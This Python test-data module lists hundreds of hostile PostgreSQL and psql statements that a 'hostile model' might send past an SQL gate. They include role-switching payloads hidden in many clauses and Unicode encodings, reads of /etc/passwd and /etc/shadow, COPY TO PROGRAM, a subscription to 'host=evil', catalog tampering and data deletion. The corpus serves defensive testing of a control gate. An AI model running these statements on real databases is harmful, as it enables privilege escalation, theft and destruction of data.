"""What a hostile model would send, to become somebody else, to take what is bob's, or to leave something behind.

One on each line. Each is refused by the gate, or harmless because the database refuses it; and each is harmless where
there is no gate.
"""

NEVER = r"""
SELECT 1; RESET ROLE; SELECT * FROM bobs
SELECT 1; SELECT 2
RESET ROLE
SET ROLE bob
SET ROLE postgres
SET ROLE NONE
SET LOCAL ROLE bob
SET SESSION AUTHORIZATION bob
SET SESSION AUTHORIZATION DEFAULT
RESET SESSION AUTHORIZATION
SET search_path = own, public
SET standard_conforming_strings = off
SET row_security = off
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET TRANSACTION READ WRITE
SET request.jwt.claims = '{"sub":"bob"}'
RESET ALL
DISCARD ALL
SELECT set_config('role', 'bob', true)
SELECT set_config('role', 'bob', false)
SELECT pg_catalog.set_config('role', 'bob', false)
SELECT "set_config"('role', 'bob', false)
SELECT n.* FROM (SELECT set_config('role', 'bob', true) OFFSET 0) s, notes n
WITH s AS MATERIALIZED (SELECT set_config('session_authorization', 'bob', false)) SELECT notes.* FROM s, notes
SELECT * FROM notes WHERE set_config('role', 'bob', false) IS NOT NULL
VALUES (set_config('role', 'bob', false))
SELECT * FROM ROWS FROM (set_config('role', 'bob', false)) r
SELECT count(*) FILTER (WHERE set_config('role', 'bob', false) = 'bob') FROM notes
SELECT sum(1) OVER (ORDER BY set_config('role', 'bob', false)) FROM notes
SELECT 1 ORDER BY set_config('role', 'bob', false)
SELECT 1 LIMIT length(set_config('role', 'bob', false))
SELECT ARRAY[set_config('role', 'bob', false)]
SELECT CASE WHEN set_config('role', 'bob', false) = '' THEN 1 END
SELECT (SELECT set_config('role', 'bob', false))
SELECT query_to_xml('SELECT set_config(''role'', ''bob'', false)', true, false, '')
SELECT table_to_xml('bobs', true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')
SELECT ts_stat('SELECT to_tsvector(body) FROM notes')
UPDATE pg_settings SET setting = 'bob' WHERE name = 'role'
UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'row_security'
COPY bobs TO STDOUT
COPY notes FROM STDIN
COPY (SELECT 1) TO PROGRAM 'id'
COPY notes TO '/tmp/actas_attack'
DO $$ BEGIN EXECUTE 'SET ROLE bob'; END $$
DO LANGUAGE plpgsql 'BEGIN PERFORM set_config(''role'', ''bob'', false); END'
CREATE FUNCTION own.evil() RETURNS text LANGUAGE sql AS $$ SELECT set_config('role', 'bob', false) $$
CREATE FUNCTION pg_temp.evil() RETURNS int LANGUAGE plpgsql AS $$ BEGIN SET ROLE bob; RETURN 1; END $$
CREATE OR REPLACE FUNCTION own.lower(text) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$
CREATE TRIGGER t BEFORE INSERT ON notes FOR EACH ROW EXECUTE FUNCTION own.evil()
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION own.evil()
CREATE RULE r AS ON SELECT TO notes DO INSTEAD SELECT * FROM bobs
CREATE POLICY open ON notes USING (true)
ALTER POLICY own ON notes USING (true)
DROP POLICY own ON notes
ALTER TABLE notes DISABLE ROW LEVEL SECURITY
ALTER TABLE notes NO FORCE ROW LEVEL SECURITY
ALTER TABLE notes OWNER TO alice
GRANT SELECT ON bobs TO alice
GRANT bob TO alice
REVOKE ALL ON notes FROM bob
REASSIGN OWNED BY bob TO alice
DROP OWNED BY bob
CREATE ROLE evil SUPERUSER LOGIN
ALTER ROLE alice SUPERUSER
ALTER ROLE alice SET role = 'bob'
ALTER ROLE alice SET standard_conforming_strings = off
ALTER ROLE bob PASSWORD 'known'
DROP ROLE bob
CREATE EXTENSION dblink
CREATE EXTENSION plpython3u
CREATE LANGUAGE plperlu
CREATE SERVER s FOREIGN DATA WRAPPER f
CREATE USER MAPPING FOR alice SERVER s
LOAD 'auto_explain'
PREPARE p AS SELECT * FROM notes
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM notes
FETCH ALL FROM c
BEGIN
COMMIT
ROLLBACK
COMMIT AND CHAIN
SAVEPOINT s
PREPARE TRANSACTION 'x'
LISTEN spy
NOTIFY spy, 'SECRET'
SELECT pg_notify('spy', 'SECRET')
UNLISTEN *
LOCK TABLE notes IN ACCESS EXCLUSIVE MODE
SELECT pg_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT pg_sleep(0.05)
SELECT n.pg_sleep FROM (SELECT 0.05) n
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'bob'
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
SELECT pg_read_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT lo_import('/etc/passwd')
SELECT lo_create(0)
SELECT lo_export(1, '/tmp/x')
SELECT pg_reload_conf()
SELECT dblink('dbname=app user=bob', 'SELECT 1')
SELECT current_setting('is_superuser')
CREATE TEMP TABLE notes AS SELECT 1 AS id
CREATE TABLE pg_temp.notes (id int)
CALL own.evil()
VACUUM notes
ANALYZE notes
CLUSTER notes
REINDEX TABLE notes
CHECKPOINT
SECURITY LABEL ON TABLE notes IS 'x'
COMMENT ON ROLE bob IS 'x'
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO own
ALTER SYSTEM SET fsync = off
ALTER DATABASE app SET role = 'bob'
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE DATABASE evil
DROP DATABASE app
CREATE TABLESPACE evil LOCATION '/tmp'
CREATE AGGREGATE own.evil (text) (SFUNC = set_config, STYPE = text)
CREATE OPERATOR own.+ (LEFTARG = int, RIGHTARG = int, FUNCTION = set_config)
CREATE CAST (text AS int) WITH FUNCTION own.evil(text)
CREATE DOMAIN own.d AS text CHECK (set_config('role', 'bob', false) = 'bob')
SELECT 1 OPERATOR(own.+) 2
SELECT 'x'::own.evil
SELECT (notes).set_config FROM notes
SELECT U&"set_con\0066ig"('role', 'bob', false)
SELECT U&"set_con!0066ig" UESCAPE '!' ('role', 'bob', false)
SELECT SET_CONFIG ( 'r' || 'ole' , E'\x62ob' , 't' )
SELECT set_config/**/('role', $$bob$$, false)
SELECT set_config('role', U&'\0062ob', false)
SELECT set_config(setting_name => 'role', new_value => 'bob', is_local => false)
SELECT set_config(VARIADIC ARRAY['role', 'bob', 'f'])
SELECT pg_catalog . set_config ( 'ROLE', 'bob', false )
SELECT DISTINCT ON (set_config('role', 'bob', false)) * FROM notes
SELECT * FROM notes GROUP BY id HAVING set_config('role', 'bob', false) = 'bob'
SELECT * FROM notes WINDOW w AS (PARTITION BY set_config('role', 'bob', false))
SELECT * FROM generate_series(1, length(set_config('role', 'bob', false)))
SELECT * FROM LATERAL (SELECT set_config('role', 'bob', false)) l, notes
SELECT * FROM notes TABLESAMPLE system (length(set_config('role', 'bob', false)))
SELECT * FROM notes FETCH FIRST (length(set_config('role', 'bob', false))) ROWS ONLY
SELECT * FROM JSON_TABLE(to_jsonb(set_config('role', 'bob', false)), '$' COLUMNS (a text PATH '$')) j
SELECT JSON_OBJECT('a': set_config('role', 'bob', false))
SELECT XMLELEMENT(NAME a, set_config('role', 'bob', false))
SELECT COALESCE(NULL, set_config('role', 'bob', false))
SELECT (ROW(set_config('role', 'bob', false))).*
SELECT GREATEST(set_config('role', 'bob', false), 'x')
SELECT notes.* FROM notes ORDER BY set_config('role', 'bob', true) OFFSET 0
WITH RECURSIVE r AS (SELECT set_config('role', 'bob', false) a UNION ALL SELECT a FROM r WHERE false) TABLE r
EXPLAIN (ANALYZE, SETTINGS) SELECT set_config('role', 'bob', false)
EXPLAIN ANALYZE EXECUTE p
CREATE VIEW own.peek WITH (security_invoker = off) AS SELECT * FROM notes
ALTER TABLE bobs INHERIT notes
ALTER VIEW own.peek OWNER TO bob
CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE internal AS 'upper'
CREATE FUNCTION own.evil(name) RETURNS bool LANGUAGE sql SECURITY DEFINER SET role = 'bob' AS 'SELECT true'
ALTER FUNCTION own.evil() SET role = 'bob'
ALTER ROUTINE own.evil() SECURITY DEFINER
CREATE PROCEDURE own.evil() LANGUAGE sql AS $$ RESET ROLE $$
CREATE TYPE own.evil AS (a int)
CREATE OPERATOR CLASS own.evil FOR TYPE int USING btree AS FUNCTION 1 own.evil(int, int)
CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION own.evil(internal))
CREATE CONVERSION own.evil FOR 'UTF8' TO 'LATIN1' FROM own.evil
CREATE TEXT SEARCH TEMPLATE own.evil (LEXIZE = own.evil)
CREATE ACCESS METHOD evil TYPE INDEX HANDLER own.evil
CREATE INDEX evil ON notes (set_config('role', 'bob', false))
CREATE TABLE own.t (a text DEFAULT set_config('role', 'bob', false))
CREATE TABLE own.t (a text GENERATED ALWAYS AS (set_config('role', 'bob', false)) STORED)
ALTER TABLE notes ADD CHECK (set_config('role', 'bob', false) IS NOT NULL)
ALTER TABLE notes FORCE ROW LEVEL SECURITY
ALTER TABLE notes ENABLE REPLICA TRIGGER ALL
ALTER TABLE notes SET SCHEMA own
ALTER SCHEMA public OWNER TO alice
ALTER ROLE ALL SET search_path = own
ALTER USER CURRENT_USER SET role = bob
ALTER ROLE alice BYPASSRLS
ALTER ROLE alice VALID UNTIL 'infinity' CREATEROLE
ALTER GROUP app_users ADD USER bob
GRANT alice TO bob WITH ADMIN OPTION
GRANT SET ON PARAMETER role TO alice
GRANT pg_read_all_data TO alice
SET ROLE TO 'bob'
SET SESSION ROLE bob
SET LOCAL SESSION AUTHORIZATION 'bob'
SET "role" = bob
SET role TO DEFAULT
SET TRANSACTION SNAPSHOT '00000003-0000001B-1'
SET CONSTRAINTS ALL DEFERRED
SET NAMES 'SJIS'
SET client_encoding = 'GBK'
SET session_replication_role = replica
SET default_transaction_read_only = off
SET local_preload_libraries = 'evil'
SET request.signed = 'forged'
RESET request.jwt.claims
SELECT set_config('request.jwt.claims', '{"sub":"bob"}', false)
SELECT set_config('search_path', 'own', false)
SELECT set_config('row_security', 'off', false)
SELECT set_config('transaction_read_only', 'off', true)
START TRANSACTION READ WRITE
BEGIN ISOLATION LEVEL SERIALIZABLE
END
ABORT
ROLLBACK TO SAVEPOINT s
RELEASE s
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
ROLLBACK AND CHAIN
PREPARE actas_1 AS SELECT 'forged'
PREPARE "" AS SELECT 'forged'
DEALLOCATE actas_1
CLOSE ALL
MOVE ALL IN c
DISCARD PLANS
DISCARD TEMP
DISCARD SEQUENCES
CREATE TEMP VIEW notes AS SELECT 'x' AS owner
CREATE TEMP SEQUENCE notes_id_seq
CREATE UNLOGGED TABLE own.u (a int)
CREATE TABLE pg_temp_3.notes (id int)
SELECT * INTO TEMP notes FROM bobs
SELECT lo_from_bytea(0, 'x'), lo_put(1, 0, 'x')
SELECT lo_unlink(oid) FROM pg_largeobject_metadata
SELECT loread(lo_open(1, 262144), 100)
SELECT pg_create_logical_replication_slot('evil', 'test_decoding')
SELECT pg_create_physical_replication_slot('evil')
SELECT pg_logical_emit_message(false, 'evil', 'x')
SELECT pg_logical_slot_get_changes('evil', NULL, NULL)
SELECT pg_export_snapshot()
SELECT pg_switch_wal()
SELECT pg_promote()
SELECT pg_rotate_logfile()
SELECT pg_stat_reset()
SELECT pg_stat_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/shadow')
SELECT pg_ls_logdir()
SELECT pg_current_logfile()
SELECT pg_file_write('/tmp/actas_attack', 'x', false)
SELECT pg_try_advisory_lock_shared(1)
SELECT pg_advisory_unlock_all()
SELECT pg_sleep_for('0.05 s')
SELECT pg_sleep_until(now())
SELECT pg_cancel_backend(pg_backend_pid())
SELECT pg_blocking_pids(1), pg_safe_snapshot_blocking_pids(1)
SELECT pg_listening_channels()
SELECT txid_current(), pg_current_xact_id()
SELECT database_to_xml(true, false, '')
SELECT schema_to_xml_and_xmlschema('public', true, false, '')
SELECT query_to_xmlschema('SELECT * FROM bobs', true, false, '')
SELECT ts_stat('SELECT to_tsvector(secret) FROM bobs')
SELECT crosstab('SELECT * FROM bobs')
SELECT * FROM dblink_exec('dbname=app', 'SET ROLE bob')
SELECT postgres_fdw_disconnect_all()
SELECT has_table_privilege('bob', 'bobs', 'SELECT'), pg_get_functiondef(1)
SELECT inet_server_addr(), inet_client_port()
SELECT brin_summarize_new_values('notes_pkey')
SELECT pg_relation_filepath('bobs')
SELECT pg_input_is_valid('x', 'own.evil')
SELECT 'own.evil()'::regprocedure
SELECT ''::cstring
SELECT CAST('x' AS own.evil)
SELECT own.evil 'x'
SELECT 1 OPERATOR(pg_catalog.+) 2
SELECT 1 @#@ 2
SELECT 1 ORDER BY 1 USING OPERATOR(own.<)
SELECT n.set_config FROM notes n
SELECT (n).pg_sleep FROM notes n
SELECT (ROW('role', 'bob', false)).set_config
UPDATE notes SET body = set_config('role', 'bob', false)
INSERT INTO notes (body) VALUES (set_config('role', 'bob', true)) RETURNING *
UPDATE pg_authid SET rolsuper = true
UPDATE pg_class SET relrowsecurity = false
DELETE FROM pg_policy
INSERT INTO pg_auth_members VALUES (1, 1, 1, true)
UPDATE information_schema.sql_features SET comments = 'x'
COPY bobs TO PROGRAM 'touch /tmp/actas_attack'
COPY (SELECT * FROM bobs) TO '/tmp/actas_attack'
COPY notes (body) FROM '/etc/passwd'
COPY notes FROM PROGRAM 'echo x'
\! touch /tmp/actas_attack
\copy bobs TO '/tmp/actas_attack'
\c app bob
\set role bob
SELECT 'SET ROLE bob' \gexec
SELECT 1 \; SET ROLE bob
SELECT '\'; SET ROLE bob; --'
SELECT E'\'; SET ROLE bob; --'; SET ROLE bob
SELECT $x$ $x$; SET ROLE bob; SELECT $y$ $y$
SELECT * FROM "notes" WHERE "set_config"('role'::text, 'bob'::text, false::bool) <> ''
CREATE EVENT TRIGGER t ON login EXECUTE FUNCTION own.evil()
CREATE TRIGGER t AFTER INSERT ON bobs FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON notes DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION own.evil()
CREATE RULE r AS ON INSERT TO notes DO ALSO NOTIFY spy
CREATE FOREIGN TABLE own.f (a int) SERVER s
CREATE FOREIGN DATA WRAPPER f
CREATE COLLATION own.evil FROM "C"
CREATE EXTENSION postgres_fdw CASCADE
CREATE EXTENSION file_fdw SCHEMA own
ALTER EXTENSION plpgsql SET SCHEMA own
ALTER LANGUAGE plpgsql OWNER TO alice
ALTER SYSTEM SET session_preload_libraries = 'evil'
ALTER SUBSCRIPTION s ENABLE
ALTER PUBLICATION p ADD TABLE bobs
ALTER LARGE OBJECT 1 OWNER TO alice
ALTER EVENT TRIGGER t DISABLE
ALTER TABLESPACE pg_default OWNER TO alice
ALTER DATABASE app OWNER TO alice
COMMENT ON DATABASE app IS 'x'
DROP EXTENSION plpgsql CASCADE
DROP ROLE alice
REINDEX DATABASE app
REFRESH MATERIALIZED VIEW CONCURRENTLY own.peek
""".strip().splitlines()
NEVER += [
    "\uff33\uff25\uff34 \uff32\uff2f\uff2c\uff25 bob",
    "\u017fET ROLE bob",
    "SET\u00a0ROLE bob",
    "SET ROLE \u202ebob",
]
"""The gate refuses these at every level."""

BY_GRANTS = r"""
EXPLAIN ANALYZE DELETE FROM notes WHERE owner = 'bob'
EXPLAIN (ANALYZE) UPDATE notes SET body = 'gone' WHERE owner = 'bob'
WITH d AS (DELETE FROM notes WHERE owner = 'bob' RETURNING *) SELECT * FROM d
WITH d AS (UPDATE notes SET body = 'gone' WHERE owner = 'bob' RETURNING *) SELECT * FROM d
DELETE FROM notes WHERE owner = 'bob'
UPDATE notes SET owner = 'alice' WHERE owner = 'bob'
UPDATE notes SET owner = 'bob' WHERE owner = 'alice'
INSERT INTO notes (owner, body) VALUES ('bob', 'forged')
MERGE INTO notes n USING (SELECT 3 AS id) s ON n.id = s.id WHEN MATCHED THEN DELETE
SELECT * INTO stolen FROM bobs
EXPLAIN ANALYZE CREATE TABLE own.x AS SELECT * FROM notes
MERGE INTO bobs b USING notes n ON true WHEN NOT MATCHED THEN INSERT VALUES (n.body)
INSERT INTO bobs SELECT body FROM notes ON CONFLICT DO NOTHING RETURNING *
UPDATE bobs SET secret = 'gone' RETURNING *
DELETE FROM bobs USING notes RETURNING bobs.*
TRUNCATE bobs
SELECT * FROM bobs FOR UPDATE
SELECT * FROM notes FOR KEY SHARE SKIP LOCKED
CREATE VIEW own.peek AS SELECT * FROM bobs
CREATE MATERIALIZED VIEW own.peek AS SELECT * FROM bobs
CREATE TABLE own.peek AS SELECT * FROM bobs
CREATE TABLE own.peek (LIKE bobs INCLUDING ALL)
CREATE TABLE own.peek () INHERITS (bobs)
CREATE TABLE own.peek PARTITION OF bobs DEFAULT
CREATE TABLE public.pg_class (oid int)
SELECT currval('notes_id_seq')
SELECT setval('notes_id_seq', 1)
SELECT nextval('notes_id_seq')
DROP TABLE bobs CASCADE
DROP SCHEMA public CASCADE
""".strip().splitlines()
"""The gate lets these pass from some level above reading on: what they ask for is the database's to refuse."""

READABLE = r"""
SELECT * FROM bobs
TABLE bobs
SELECT rolpassword FROM pg_authid
SELECT query FROM pg_stat_activity WHERE usename = 'bob' AND query LIKE '%SECRET%'
SELECT notes.evil FROM notes
SELECT secret FROM bobs UNION ALL SELECT body FROM notes
SELECT (SELECT string_agg(secret, '') FROM bobs)
SELECT * FROM notes n WHERE EXISTS (SELECT 1 FROM bobs WHERE secret > n.body)
SELECT 1 -- '; SET ROLE bob
SELECT 1 /* /* */ ; SET ROLE bob */
""".strip().splitlines()
"""The gate lets these pass to everybody: plain reading, which the database refuses or answers with nothing of bob's."""

ATTACKS = [*NEVER, *BY_GRANTS, *READABLE]
